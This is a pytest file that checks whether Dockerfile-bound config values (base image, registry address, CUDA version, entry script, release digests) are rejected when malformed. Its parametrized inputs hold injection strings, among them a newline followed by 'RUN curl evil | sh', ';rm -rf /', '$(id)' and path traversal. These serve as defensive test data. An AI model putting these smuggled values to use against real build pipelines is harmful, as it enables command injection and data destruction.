"""Values rendered into a Dockerfile or a command are checked against their grammar: no config
value can add a line (or a quote, a `$`, a space) to a rendered Dockerfile."""

from __future__ import annotations

import pytest

from components.errors import ConfigError, ConfigErrors

DIGEST = "sha256:" + "a" * 64


def errors_of(project, stack_config: dict) -> str:
    project.write_stack("local", {"registry": {"kind": "local", "port": 5050}, **stack_config})
    with pytest.raises((ConfigErrors, ConfigError)) as caught:
        project.load("local")
    return str(caught.value)


def env_errors(project, env: dict) -> str:
    return errors_of(project, {"services": {"diabetes": {"environment": env}}})


HOSTILE_IMAGES = [
    "python:3.11\nRUN curl evil | sh",
    "python:3.11\r\nUSER root",
    "python:3.11 AS x",
    "python:3.11\tx",
    "Python:3.11",
    'python:"3.11"',
    "python:$TAG",
    "python:3.11;rm -rf /",
    "",
    "a" * 300,
    "https://myregistry.azurecr.io/base:1",
    "python:3.11@sha256:xyz",
]


@pytest.mark.parametrize("image", HOSTILE_IMAGES)
def test_base_image_must_be_an_image_reference(project, image):
    text = env_errors(project, {"base_image": image})
    assert "modelstack:services.diabetes.environment.base_image: " in text
    assert "is not an image reference" in text
    assert "Rule: an image reference is [registry[:port]/]name[:tag][@digest]" in text
    assert "\nRUN" not in text and "\nUSER" not in text, "the hostile line is shown quoted, not as a line"


@pytest.mark.parametrize(
    "image",
    [
        "python:3.11-slim",
        "mcr.microsoft.com/azureml/openmpi4.1.0-ubuntu22.04",
        "localhost:5000/team/base",
        "myregistry.azurecr.io/team/base:1.0@" + DIGEST,
        "ubuntu@" + DIGEST,
        "modelstack/python-base:bookworm",
    ],
)
def test_real_image_references_are_accepted(project, image):
    project.write_stack(
        "local",
        {"registry": {"kind": "local", "port": 5050}, "services": {"diabetes": {"environment": {"base_image": image}}}},
    )
    assert project.load("local").services["diabetes"].environment.base_image == image


@pytest.mark.parametrize(
    "address",
    ["https://myregistry.azurecr.io", "myregistry.azurecr.io\nRUN x", "my registry", "host:port", "-bad.io", "a/b c"],
)
def test_base_image_registry_address_must_be_a_registry_host(project, address):
    env = {"base_image": "team/base:1", "base_image_registry": {"address": address}}
    text = env_errors(project, env)
    assert "modelstack:services.diabetes.environment.base_image_registry.address: " in text
    assert "is not a registry address\n  Rule: a registry address is a host name with an optional :port" in text


@pytest.mark.parametrize("address", ["myregistry.azurecr.io", "localhost:5000", "registry.example.com/team"])
def test_registry_addresses_are_accepted(project, address):
    project.write_stack(
        "local",
        {
            "registry": {"kind": "local", "port": 5050},
            "services": {
                "diabetes": {"environment": {"base_image": "team/base:1", "base_image_registry": {"address": address}}}
            },
        },
    )
    assert project.load("local").services["diabetes"].environment.base_image_registry.address == address


@pytest.mark.parametrize("version", ["11.8\nRUN id", "latest", "11", "11.8-cudnn", "$(id)", "11.8.0.1"])
def test_cuda_version_is_digits(project, version):
    text = env_errors(project, {"enable_gpu": True, "cuda_version": version})
    assert "modelstack:services.diabetes.environment.cuda_version: " in text
    assert "is not a CUDA version\n  Rule: cuda_version is MAJOR.MINOR[.PATCH] in digits" in text


@pytest.mark.parametrize(
    "script",
    [
        "score.py\nRUN id",
        "my score.py",
        'score".py',
        "$HOME/score.py",
        "../score.py",
        "a/../../score.py",
        "/abs/score.py",
    ],
)
def test_entry_script_is_a_plain_relative_path(project, script):
    text = errors_of(project, {"services": {"diabetes": {"entry_script": script}}})
    assert "modelstack:services.diabetes.entry_script: " in text
    assert "is not a plain relative path\n  Rule: entry_script is a relative path of letters, digits" in text


@pytest.mark.parametrize(
    "image",
    [
        "registry/diabetes@" + DIGEST + "\nRUN id",
        'registry/diabetes"@' + DIGEST,
        "registry/diabetes@sha256:" + "A" * 64,
        "registry/diabetes:1.0",
        "registry/dia betes@" + DIGEST,
    ],
)
def test_release_pins_are_images_pinned_by_digest(project, image):
    text = errors_of(project, {"release": {"diabetes": {"image": image}}})
    assert "modelstack:release.diabetes.image: " in text
    assert "is not an image pinned by digest" in text
    assert "Fix: promote again (`modelstack promote`) to rewrite the release" in text


def test_a_line_break_never_reaches_the_rendered_dockerfile():
    from components.image.build_context import render_dockerfile

    with pytest.raises(ConfigError) as caught:
        render_dockerfile(base_image="python:3.11\nRUN id", extra_docker_file_steps="RUN ok\nRUN ok")
    assert "base_image 'python:3.11\\nRUN id' holds a line break" in str(caught.value)
